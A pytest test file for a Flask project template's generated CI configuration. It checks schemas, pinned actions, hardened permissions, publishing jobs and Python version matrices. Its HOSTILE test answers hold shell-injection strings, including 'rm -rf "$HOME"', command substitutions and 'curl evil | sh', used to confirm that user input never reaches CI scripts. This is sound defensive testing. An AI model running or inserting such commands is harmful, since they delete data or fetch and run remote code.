"""CI configuration of generated projects, checked offline with the tools the users' CI runs."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
import yaml

from conftest import Bake
from conftest import BIN
from conftest import cookiecutter_cli
from conftest import DEFAULTS
from conftest import run
from conftest import TEMPLATE

PINNED = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*")
CI_FILES = {".github", ".gitlab-ci.yml", ".travis.yml"}
# Answers typed by a user, with every character a shell treats specially.
HOSTILE = {
    "author_name": 'Robert\'); rm -rf "$HOME" `id` $(id) ${PATH} \\ ; echo',
    "short_description": 'Say "hi" && curl evil | sh; # ${GITHUB_TOKEN} $(whoami)',
}


def workflows(project: Path) -> dict[str, dict]:  # type: ignore[type-arg]
    return {
        path.name: yaml.safe_load(path.read_text(encoding="utf-8"))
        for path in sorted((project / ".github/workflows").glob("*.yaml"))
    }


def steps(workflow: dict) -> list[dict]:  # type: ignore[type-arg]
    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]


@pytest.mark.parametrize("ci", DEFAULTS["ci"])
def test_only_the_chosen_ci_files_exist(bake: Bake, ci: str) -> None:
    present = {p.name for p in bake(ci=ci).iterdir()} & CI_FILES
    expected = {"github": {".github"}, "gitlab": {".gitlab-ci.yml"}, "travis": {".travis.yml"}}
    assert present == expected.get(ci, set())


def test_github_workflows_pass_their_schema(bake: Bake) -> None:
    project = bake(ci="github")
    run(
        BIN / "check-jsonschema",
        "--builtin-schema",
        "vendor.github-workflows",
        *sorted((project / ".github/workflows").glob("*.yaml")),
    )


@pytest.mark.parametrize(
    "answers",
    [{}, HOSTILE | {"with_views": True, "with_cli": True}],
    ids=["defaults", "hostile-text"],
)
def test_zizmor_finds_nothing(bake: Bake, answers: dict[str, object]) -> None:
    project = bake(ci="github", **answers)
    out = run(
        BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress", project / ".github"
    )
    assert "No findings to report" in out


def test_actions_are_pinned_to_commits(bake: Bake) -> None:
    uses = [
        step["uses"]
        for wf in workflows(bake(ci="github")).values()
        for step in steps(wf)
        if "uses" in step
    ]
    assert uses
    text = "\n".join(p.read_text("utf-8") for p in (bake(ci="github") / ".github").rglob("*.y*ml"))
    for line in re.findall(r"uses: (.*)", text):
        assert PINNED.fullmatch(line), line
    assert set(re.findall(r"uses: (.*)", text)) <= set(DEFAULTS["_actions"].values())


def test_workflows_are_hardened(bake: Bake) -> None:
    for name, workflow in workflows(bake(ci="github")).items():
        assert workflow["permissions"] == {}, name
        assert "concurrency" in workflow, name
        for job_name, job in workflow["jobs"].items():
            assert job.get("permissions"), (name, job_name)
        for step in steps(workflow):
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False
    tests = workflows(bake(ci="github"))["tests.yaml"]
    assert tests["concurrency"]["cancel-in-progress"] is True


def test_publish_uses_trusted_publishing(bake: Bake) -> None:
    publish = workflows(bake(ci="github"))["publish.yaml"]
    assert publish[True]["push"]["tags"] == ["*"]  # YAML 1.1 reads the key `on` as True
    job = publish["jobs"]["publish"]
    assert job["permissions"] == {"id-token": "write"}
    assert job["environment"]["name"] == "publish"
    text = (bake(ci="github") / ".github/workflows/publish.yaml").read_text("utf-8")
    assert "secrets." not in text and "password" not in text


@pytest.mark.parametrize("python_min", DEFAULTS["python_min"])
def test_github_matrix_spans_the_supported_pythons(bake: Bake, python_min: str) -> None:
    job = workflows(bake(ci="github", python_min=python_min))["tests.yaml"]["jobs"]["tests"]
    rows = job["strategy"]["matrix"]["include"]
    supported = DEFAULTS["_python_versions"][DEFAULTS["_python_versions"].index(python_min) :]
    cpythons = [row["python"] for row in rows if "name" not in row]
    assert sorted(cpythons) == supported
    pypy = [row["python"] for row in rows if row.get("name") == "PyPy"]
    assert pypy == ([f"pypy-{DEFAULTS['_pypy']}"] if DEFAULTS["_pypy"] in supported else [])
    assert {"name": "Minimum Versions", "python": python_min, "target": "test-min"} in rows
    newest = supported[-1]
    assert {"name": "Development Versions", "python": newest, "target": "test-dev"} in rows
    jobs = workflows(bake(ci="github", python_min=python_min))["tests.yaml"]["jobs"]
    assert {"docs", "lint"} <= set(jobs)
    assert [step["run"] for step in jobs["lint"]["steps"] if "run" in step] == ["make lint"]


@pytest.mark.parametrize("ci", ["github", "gitlab", "travis"])
def test_typed_answers_never_reach_a_script(bake: Bake, ci: str) -> None:
    project = bake(ci=ci, **HOSTILE)
    texts = [p.read_text("utf-8") for p in project.rglob("*.y*ml") if ".git" not in p.parts[-3:]]
    config = "\n".join(texts)
    for value in HOSTILE.values():
        assert value not in config
        for word in ("rm -rf", "curl evil", "whoami"):
            assert word not in config


@pytest.mark.parametrize(
    ("ci", "schema", "path"),
    [
        ("gitlab", "vendor.gitlab-ci", ".gitlab-ci.yml"),
        ("travis", "vendor.travis", ".travis.yml"),
    ],
)
def test_other_ci_files_pass_their_schemas(bake: Bake, ci: str, schema: str, path: str) -> None:
    project = bake(ci=ci, python_min="3.12")
    run(BIN / "check-jsonschema", "--builtin-schema", schema, project / path)
    config = yaml.safe_load((project / path).read_text("utf-8"))
    newest = DEFAULTS["_python_versions"][-1]
    if ci == "gitlab":
        matrix = config["tests"]["parallel"]["matrix"][0]
        assert matrix["PYTHON"] == DEFAULTS["_python_versions"][1:]
        assert matrix["TARGET"] == ["test", "test-min"]
        assert config["development-versions"]["image"] == f"python:{newest}"
        jobs = {
            name: config[name]["script"]
            for name in ("development-versions", "lint", "docs", "publish")
        }
    else:
        assert config["python"] == DEFAULTS["_python_versions"][1:]
        assert config["env"] == ["TARGET=test", "TARGET=test-min"]
        include = config["jobs"]["include"]
        assert include[0]["python"] == newest
        jobs = {job["name"]: [f"make {job['env'].removeprefix('TARGET=')}"] for job in include}
    publish = jobs.pop("publish")
    assert sorted(jobs.values()) == [["make docs"], ["make lint"], ["make test-dev"]]
    assert publish[0].startswith("make publish")


def publish_commands(project: Path, ci: str) -> list[str]:
    """What the job that runs on a tag and uploads to PyPI runs before the upload."""
    if ci == "github":
        build = workflows(project)["publish.yaml"]["jobs"]["build"]
        return [step["run"] for step in build["steps"] if "run" in step]
    if ci == "gitlab":
        job = yaml.safe_load((project / ".gitlab-ci.yml").read_text("utf-8"))["publish"]
        assert job["rules"] == [{"if": "$CI_COMMIT_TAG"}]
        return job["script"]  # type: ignore[no-any-return]
    jobs = yaml.safe_load((project / ".travis.yml").read_text("utf-8"))["jobs"]["include"]
    (job,) = [job for job in jobs if job.get("stage") == "publish"]
    assert job["if"] == "tag IS present"
    return [f"make {job['env'].removeprefix('TARGET=')}"]


@pytest.mark.parametrize("ci", ["github", "gitlab", "travis"])
def test_every_publish_job_builds_with_make_dist(bake: Bake, ci: str) -> None:
    """make dist refuses the template's placeholders (test_real_projects runs it); make
    publish runs make dist first."""
    project = bake(ci=ci)
    commands = publish_commands(project, ci)
    assert "make dist" in commands or any(c.startswith("make publish") for c in commands)
    planned = run("make", "-n", "-C", project, "publish").splitlines()
    check = next(i for i, line in enumerate(planned) if "scripts/check_release.py" in line)
    build = next(i for i, line in enumerate(planned) if " build" in line)
    assert check < build


def test_development_versions_come_from_the_main_branches(bake: Bake) -> None:
    """The job runs in the user's CI; here, what `make test-dev` would run (make -n)."""
    project = bake(ci="none")
    planned = run("make", "-n", "-C", project, "test-dev")
    install = next(line for line in planned.splitlines() if "uv pip install " in line)
    assert '"flask @ git+https://github.com/pallets/flask@main"' in install
    assert '"werkzeug @ git+https://github.com/pallets/werkzeug@main"' in install
    assert "-e . --group test" in install


@pytest.mark.parametrize(
    ("ci", "schema", "path"),
    [
        ("github", "vendor.dependabot", ".github/dependabot.yml"),
        ("gitlab", "vendor.renovate", "renovate.json"),
    ],
)
def test_pinned_tools_are_kept_up_to_date(bake: Bake, ci: str, schema: str, path: str) -> None:
    project = bake(ci=ci)
    run(BIN / "check-jsonschema", "--builtin-schema", schema, project / path)
    text = (project / path).read_text("utf-8")
    if ci == "github":
        updates = {u["package-ecosystem"]: u for u in yaml.safe_load(text)["updates"]}
        assert set(updates) == {"github-actions", "pip", "pre-commit"}
        # Pins move; lower bounds stay.
        assert updates["pip"]["versioning-strategy"] == "increase-if-necessary"
    else:
        assert json.loads(text)["rangeStrategy"] == "replace"
    for other in ("github", "gitlab", "travis", "none"):
        if other != ci:
            assert not (bake(ci=other) / path).exists()


def test_template_own_workflows_are_hardened() -> None:
    files = sorted((TEMPLATE / ".github/workflows").glob("*.yaml"))
    assert files
    run(BIN / "check-jsonschema", "--builtin-schema", "vendor.github-workflows", *files)
    out = run(
        BIN / "zizmor", "--offline", "--persona", "pedantic", "--no-progress", TEMPLATE / ".github"
    )
    assert "No findings to report" in out
    text = "\n".join(path.read_text("utf-8") for path in files)
    assert set(re.findall(r"uses: (.*)", text)) <= set(DEFAULTS["_actions"].values())


def pushes_that_run_ci(project: Path, ci: str) -> list[str] | None:
    """The branches whose pushes start the tests; None if every branch's do."""
    if ci == "github":
        on = workflows(project)["tests.yaml"][True]  # YAML 1.1 reads the key `on` as true
        return on["push"].get("branches")  # type: ignore[no-any-return]
    config = yaml.safe_load((project / f".{ci}{'-ci' if ci == 'gitlab' else ''}.yml").read_text())
    if ci == "gitlab":
        assert "workflow" not in config  # no rules that could leave a branch out
        tests = [job for job in config.values() if isinstance(job, dict) and job["stage"] == "test"]
        assert tests and all("rules" not in job and "only" not in job for job in tests)
        return None
    return config.get("branches", {}).get("only")  # type: ignore[no-any-return]


@pytest.mark.parametrize("ci", ["github", "gitlab", "travis"])
def test_first_commit_is_on_the_branch_ci_runs_on(tmp_path: Path, ci: str) -> None:
    """Whatever branch name git defaults to on this machine, the first push runs the CI."""
    git_config = tmp_path / "gitconfig"
    git_config.write_text("[init]\n\tdefaultBranch = trunk\n")
    env = {**os.environ, "GIT_CONFIG_GLOBAL": str(git_config)}
    baked = cookiecutter_cli(
        "--no-input", "--output-dir", tmp_path, answers_given=(f"ci={ci}",), env=env
    )
    assert baked.returncode == 0, baked.stderr
    project = tmp_path / "flask_example"
    branch = run("git", "branch", "--show-current", cwd=project).strip()
    assert branch == "main"
    branches = pushes_that_run_ci(project, ci)
    assert branches is None or branch in branches
